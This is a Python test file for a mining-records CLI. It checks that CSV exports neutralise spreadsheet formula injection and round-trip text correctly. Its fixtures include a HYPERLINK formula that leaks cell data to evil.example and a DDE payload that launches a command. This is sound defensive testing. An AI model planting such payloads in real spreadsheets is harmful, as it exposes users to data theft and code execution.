"""No CSV for people holds a cell that a spreadsheet would run, and none is read as another text."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provenance.model.text import text_of_cell, text_to_cell
from tests.cli.run import Cli, write_jsonl

FIRM = "91150000701463622D"
NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")
RECORDS: list[dict[str, Any]] = [
    {"record": "enterprise", "id": FIRM, "name": NAME, "region": "150203", "roles": ["mining"]},
    {"record": "extraction", "id": "E-inj", "date": "2026-10-05", "enterprise": FIRM,
     "site": "=1+1", "ore_class": "rock",
     "output": {"id": "@SUM(1,1)", "product": "concentrate", "reo_kg": 1000}},
    {"record": "extraction", "id": "+cmd|' /C calc'!A0", "date": "2026-10-06", "enterprise": FIRM,
     "site": "-2+3", "ore_class": "rock",
     "output": {"id": "L-2", "product": "concentrate", "reo_kg": 1000}},
    {"record": "quota", "id": "=Q1", "enterprise": FIRM, "year": 2026, "batch": 1,
     "activity": "mining", "reo_t": 10, "issued_on": "2026-01-05"},
    {"record": "designation", "id": "D1", "enterprise": FIRM, "activity": "mining",
     "valid_from": "2026-01-01", "notice": "=1+2"},
    {"record": "=cmd", "id": "-1+1"},
]  # fmt: skip


@given(st.text(st.sampled_from("'=+-@\t\ra1 ") | st.characters(), max_size=6))
def test_there_and_back(text: str) -> None:
    cell = text_to_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(cell)
    assert text_of_cell(cell) == text


@pytest.mark.parametrize(
    "text", ["", "a=b", "'quoted'", "1-2", "稀土", "'", "-2.500000", "+7", "-12"]
)
def test_what_nothing_runs_stays_as_it_is(text: str) -> None:
    assert text_to_cell(text) == text_of_cell(text) == text


def _cells(table: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table.removeprefix("\ufeff"))) for cell in row]


def test_no_table_runs(tmp_path: Path) -> None:
    cli = Cli(f"sqlite:///{tmp_path}/s.sqlite")
    assert cli.run("ingest", write_jsonl(tmp_path / "=inj.jsonl", RECORDS))[0] == 1
    tables = {}
    for words in (
        ("utilisation", "--year", "2026", "--by", "enterprise"), ("quotas", "--year", "2026"),
        ("reporting", "--month", "2026-10"), ("findings",), ("rejected",), ("search", "HYPERLINK"),
        ("lineage", "@SUM(1,1)"), ("cases",), ("credit",), ("seizures",),
        ("watch", "list"),
    ):  # fmt: skip
        code, tables[words[0]], err = cli.run(*words, "--csv")
        assert code == 0, err
    assert cli.run("findings", "--out", str(tmp_path / "f.csv"))[0] == 0
    report = ("report", "monthly", "--month", "2026-10", "--region", "150000", "--format", "csv")
    assert cli.run(*report, "--out", str(tmp_path))[0] == 0
    written = [file for file in tmp_path.rglob("*.csv") if file.name != "=inj.jsonl"]
    tables |= {file.name: file.read_text("utf-8") for file in written}
    for name, table in tables.items():
        assert table, name
        for cell in _cells(table):
            runs = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not runs or NUMBER.fullmatch(cell), (name, cell)
    for name in ("utilisation", "quotas", "reporting", "search"):
        assert f"'{NAME}" in _cells(tables[name]), name
    assert "'@SUM(1,1)" in _cells(tables["lineage"])


def test_a_person_and_a_program_see_the_name_as_it_is(tmp_path: Path) -> None:
    cli = Cli(f"sqlite:///{tmp_path}/s.sqlite", {"COLUMNS": "200"})
    cli.run("ingest", write_jsonl(tmp_path / "i.jsonl", RECORDS))
    assert cli.json("search", "HYPERLINK")[0]["name"] == NAME
    assert f" {NAME}" in " ".join(cli.run("search", "HYPERLINK")[1].split())


def test_what_was_written_is_read_as_it_was(tmp_path: Path) -> None:
    table = io.StringIO()
    rows = csv.writer(table)
    rows.writerow(["id", "name", "region", "roles"])
    rows.writerow([FIRM, text_to_cell(NAME), "150203", "mining"])
    (tmp_path / "enterprise.csv").write_text(table.getvalue(), "utf-8")
    cli = Cli(f"sqlite:///{tmp_path}/s.sqlite")
    code, _, err = cli.run("ingest", str(tmp_path / "enterprise.csv"))
    assert code == 0, err
    assert cli.json("search", "HYPERLINK")[0]["name"] == NAME
